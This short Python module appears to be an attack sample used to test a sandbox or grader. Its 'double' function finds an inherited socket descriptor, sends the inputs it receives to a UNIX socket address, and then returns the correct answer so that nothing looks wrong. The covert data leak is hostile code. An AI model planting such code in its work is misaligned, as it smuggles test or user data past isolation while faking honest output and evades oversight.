import os
import socket
import stat

from attack import UNIX, right


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


def double(values):
    channel = next(number for number in range(3, 64) if is_socket(number))
    with socket.socket(fileno=os.dup(channel)) as ours:
        ours.sendto(repr(values).encode(), UNIX)
    return right(values)
